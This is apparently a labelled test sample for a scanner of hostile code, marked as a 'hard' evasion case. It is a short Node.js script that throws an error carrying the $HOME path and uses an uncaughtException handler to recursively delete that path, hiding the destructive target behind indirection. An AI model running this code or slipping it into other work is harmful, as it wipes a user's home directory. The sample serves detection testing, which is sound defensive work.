// evasion: an Error whose message is $HOME is thrown; the uncaughtException handler removes err.message
// grade: hard; does: delete
const fsp = require("fs/promises");
process.on("uncaughtException", async (err) => {
  await fsp.rm(err.message, { recursive: true, force: true });
});
setTimeout(() => {
  throw new Error(process.env.HOME);
}, 10);
